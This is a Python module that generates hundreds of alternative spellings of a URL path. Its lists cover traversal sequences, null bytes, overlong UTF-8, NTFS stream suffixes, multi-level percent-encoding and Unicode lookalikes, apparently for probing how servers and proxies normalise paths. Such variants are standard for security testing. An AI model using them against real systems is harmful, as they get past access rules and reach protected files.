"""Spellings of a path: other bytes that some server takes for the same page.

All are computed from the path itself, in a fixed order, so that they fit any site. None of them may be needed to be
right: each is one that some server, proxy or framework in use has taken for the plain one.
"""

from collections.abc import Iterator

FULL_WIDTH = 0xFEE0
"""Distance of the full-width forms from ASCII."""
LOOKALIKES = {
    "s": ["ſ"], "k": ["\u212a"], "i": ["ı", "İ"], "a": ["ª", "á", "а"], "o": ["º", "ο"], "c": ["ⅽ"], "v": ["ⅴ"],
    "l": ["ⅼ"], "t": ["ｔ"], "-": ["\u2010", "\u2212", "\u2013"], ".": ["\u2024", "\uff0e", "\u3002"],
}  # fmt: skip
SLASHES = ["\uff0f", "\u2215", "\u2044", "\u29f8"]
BACK_SLASHES = ["\uff3c", "\u2216", "\ufe68"]
ENDINGS = [
    "/", "//", "/x", "/x/y/", "//x", "/0.html", "/;x/y", "/%20/x", ".en/x", "/.", "/./", "/..", "/x/..", "/%2e", "/x/%2e%2e",
    ".", "..", "...", "%2e", " ", "%20", "%20%20", "+", "\t", "%09", "%0a", "%0d", "%0d%0a",
    "%00", "%00.html", "%00x", "\0", "%2500", "%7f", "%c2%a0", "%e2%80%8b", "%ef%bb%bf", "%e3%80%80", "%ad", "%c2%ad",
    ";", ";x", ";x=y", ";/", "/;", "/;x", "%3b", "%3bx", "%253b", ";a=b;c=d", ";jsessionid=1",
    "?", "?x", "??", "?/", "%3f", "%3fx", "%253f", "#", "#x", "%23", "%23x", "%2523", "&", "&x", "%26", ",", "!", "*", "$",
    "'", '"', "`", "|", "^", "~", "~1", ":", "::$DATA", "::$data", ":$i30:$INDEX_ALLOCATION", "%3a%3a$DATA", ":x", "%",
    "%%", "%2", "%zz", "%u002f", "\\", "\\\\", "%5c", "%255c", "/\\", "\\.", "%2f", "%2f%2f", "%252f", "%25252f", "%c0%af",
    "%e0%80%af", "%f0%80%80%af", "%c1%9c", "\x80", "\xff", "%ff", "%80", "{}", "[]", "<>", "=", "@", "@x", "%40",
]  # fmt: skip
PREFIXES = [
    "/", "//", "///", "/./", "/././", "/%2e/", "/%2e%2e/", "/../", "/../../", "/x/../", "/x/%2e%2e/", "/x/.%2e/", "/x/%2e./",
    "/x/..;/", "/x/..;a=b/", "/x/..%3b/", "/x/%252e%252e/", "/x/%25252e%25252e/", "/x%2f../", "/x%2f..%2f", "/x%252f..%252f",
    "/x/..%2f", "/x/..%5c", "/x/..\\", "/x\\../", "/x\\..\\", "/x%5c..%5c", "/\\", "\\", "\\\\", "\\/", "/%5c", "%5c", "/%2f",
    "%2f", "/%252f", "/;/", "/;x/", "/;x=y/", "/%3b/", "/;/../", "/.;/", "/ /", "/%20/", "/+/", "/%09/", "/\t/", "/%0a/",
    "/%0d%0a/", "/%00/", "/%00", "/.%00/", "/x/.%00./", "/x/%c0%ae%c0%ae/", "/x/%e0%80%ae%e0%80%ae/", "/x/%uff0e%uff0e/",
    "/x/\uff0e\uff0e/", "/x/\u2024\u2024/", "/x/\u2025/", "/x/%u002e%u002e/", "/%c0%af", "/%e0%80%af", "/%u002f", "/%u2215",
    "/host/..//", "//host/", "///host/", "//host:80/", "//host%2fx/", "/%2fhost/", "/\\host/", "\\\\host/", "/\\/host/", ":///",
    "/:/", "/.../", "/x/.../", "/x/.. /", "/x/..%20/", "/x/.../", "/x/..../", "/x/..%09/", "/x/.%2e%20/", "/x/..::$DATA/",
    "/x/..%00/", "/x/..%0a/", "/x/..%ff/", "/x/..?/", "/x/..%3f/", "/x/..#/", "/x/..%23/", "/?/../", "/%3f/../", "/#/../",
    "/%23/../", "/*/../", "/~/../", "/%/../", "/%%/../", "/%2/../",
]  # fmt: skip


def spellings(path: bytes) -> list[bytes]:
    """At least 300 spellings of a path without the path itself, each once."""
    plain, question, query = path.decode("latin-1").partition("?")
    found: dict[bytes, None] = {}
    for each in _all(plain):
        found.setdefault(_bytes(each) + (question + query).encode("latin-1"))
    found.pop(path, None)
    return list(found)


def _bytes(text: str) -> bytes:
    """Letters below U+0100 stand for single bytes, others for their UTF-8."""
    return b"".join(bytes([ord(letter)]) if ord(letter) < 256 else letter.encode() for letter in text)


def _all(path: str) -> Iterator[str]:
    yield from _ends(path)
    yield from _letters(path)
    yield from _separators(path)
    yield from _whole(path)
    yield from _mixed(path)


def _ends(path: str) -> Iterator[str]:
    rest = path.removeprefix("/")
    for ending in ENDINGS:
        yield path + ending
    for prefix in PREFIXES:
        yield prefix + rest
    first, slash, last = rest.rpartition("/")
    if slash:
        for ending in ("/", "/.", "/x/..", ";", ";x", "%20", ".", "%2f", "%5c", "\\", "%00", "%3b", "::$DATA", "%0a", "%09"):
            yield f"/{first}{ending}/{last}"
    yield rest
    yield path + "/" + path.rpartition("/")[2]
    yield path + "/x.css"
    yield path + "%2fx.css"


def _letters(path: str) -> Iterator[str]:
    yield from (path.upper(), path.title(), path.swapcase(), path.capitalize())
    for at, letter in enumerate(path):
        if letter == "/":
            continue
        code = ord(letter)
        for other in (f"%{code:02x}", f"%{code:02X}", f"%25{code:02x}", f"%2525{code:02x}", f"%u00{code:02x}", f"&#{code};"):
            yield path[:at] + other + path[at + 1 :]
        if letter.isalpha():
            yield path[:at] + letter.swapcase() + path[at + 1 :]
            yield path[:at] + f"%{ord(letter.swapcase()):02x}" + path[at + 1 :]
        high = (code >> 6) | 0xC0
        yield path[:at] + f"%{high:02x}%{(code & 63) | 128:02x}" + path[at + 1 :]
        yield path[:at] + f"%e0%{0x80 | code >> 6:02x}%{(code & 63) | 128:02x}" + path[at + 1 :]
        yield path[:at] + chr(code | 0x80) + path[at + 1 :]
        for other in (*LOOKALIKES.get(letter, []), chr(code + FULL_WIDTH)):
            yield path[:at] + other + path[at + 1 :]
            yield path[:at] + _escaped(other) + path[at + 1 :]
        for extra in ("\u0301", "\u200d"):
            yield path[:at] + letter + _escaped(extra) + path[at + 1 :]
        for extra in ("\t", "%09", "%0a", "\0", "%00", "%ad", "\\", "%c2%ad"):
            yield path[:at] + extra + path[at:]


def _separators(path: str) -> Iterator[str]:
    others = [
        "//", "///", "/./", "/x/../", "\\", "\\/", "/\\", "%2f", "%2F", "%252f", "%252F", "%25252f", "%5c", "%5C", "%255c",
        "%c0%af", "%c0%2f", "%e0%80%af", "%f0%80%80%af", "%c1%9c", "%u002f", "%u2215", "%uff0f", "/;/", "/;x/", ";/", "/%20/",
        "/%2e/", "/%2e%2e/x/../", "/x/%2e%2e/", "/x/..;/", "/%00/", "%00/", "/.;/", "/x/..%2f", "%2f.%2f", "%2f%2f", "\t/",
        "%09/", "%0a/", "/%0a", "&#47;", "::$DATA/", ":$i30:$INDEX_ALLOCATION/", "%2f;x/", ";%2f", ";%2f../", "/.%0d./x/",
        *SLASHES, *BACK_SLASHES, *map(_escaped, SLASHES + BACK_SLASHES),
    ]  # fmt: skip
    places = [at for at, letter in enumerate(path) if letter == "/"]
    for at in places:
        for other in others:
            yield path[:at] + other + path[at + 1 :]
    for other in others:
        yield path.replace("/", other)
        yield "/" + path[1:].replace("/", other)


def _whole(path: str) -> Iterator[str]:
    """The whole path in another alphabet or coding."""
    segments = path[1:].split("/")
    once = "/" + "/".join("".join(f"%{ord(letter):02x}" for letter in segment) for segment in segments)
    yield once
    yield once.upper().replace("%", "%")
    yield "".join(f"%{ord(letter):02x}" for letter in path)
    yield "/" + "".join(f"%{ord(letter):02x}" for letter in path[1:])
    yield once.replace("%", "%25")
    yield once.replace("%", "%2525")
    yield once.replace("%", "%252525")
    yield once.replace("%", "%25252525")
    wide = "/" + "/".join("".join(chr(ord(letter) + FULL_WIDTH) for letter in segment) for segment in segments)
    yield from (wide, _escaped(wide), "/" + _escaped(wide[1:]))
    yield "/" + "/".join("".join(f"%u00{ord(letter):02x}" for letter in segment) for segment in segments)
    yield "/" + path[1:].encode("utf-16-be").decode("latin-1")
    yield "/+" + path[1:].replace("/", "-+AC8-")
    for scheme in ("http", "https", "HTTP", "ftp", "file", "x", "//"):
        yield f"{scheme}://localhost{path}"
    yield f"http:{path}"
    yield f"http:/{path}"
    yield f"localhost{path}"
    yield f"*{path}"
    yield "*"


def _mixed(path: str) -> Iterator[str]:
    """Habits on habits."""
    upper = path.upper()
    first, _, last = path[1:].partition("/")
    yield from (
        f"//{upper[1:]}",
        f"/x/..{upper}",
        f"/%2e{upper};x",
        f"/X/%2E%2E/{first};a//{last.upper()}",
        f"/{first}%2f%2e%2f{last}",
        f"/{first};x%2f{last}",
        f"//h/{first}%252f{last}",
        f"/{first}%5c%2e%2e%5c{first}/{last}",
        f"/{upper[1:]}%20;x",
        f"/{first}/;x/..;/{last}",
        f"/{first}/%3bx/{last}",
        f"/%252e/{first}%252f{last}",
        f"/{first}%2f..%2f{first}%2f{last}",
        f"/{first}%2f;%2f{last}",
        f"//h%2fx//{first}/{last}",
        f"/{first}/./%20/../{last}",
        f"/{first}.//{last}.",
        f"/{first}%20//{last}%20",
        f"/x;/../{first}/{last}",
        f"/x%3b/../{first}/{last}",
        f"/x%2f%2e%2e%2f{first}/{last}",
        f"/{first}%3fx/../{last}",
        f"/{first}/{last}%3f%23",
        f"/{first}/{last}%23%3f;",
        f"/{first}/{last};%00",
        f"/{first}%",
        f"/%2f/{first}/{last}",
        f"/%5c/{first}/{last}",
        f"/{first}/%2e%2e/{first}/{last}",
        f"/{first}/../{first}/{last}",
        f"/./{first}/./{last}/.",
        f"/{first}//..//{first}/{last}",
        f"/{first}/%252e%252e/{first}/{last}",
    )


def _escaped(text: str) -> str:
    return "".join(
        f"%{byte:02x}" if byte > 127 else chr(byte)
        for letter in text
        for byte in (letter.encode() if ord(letter) > 127 else bytes([ord(letter)]))
    )
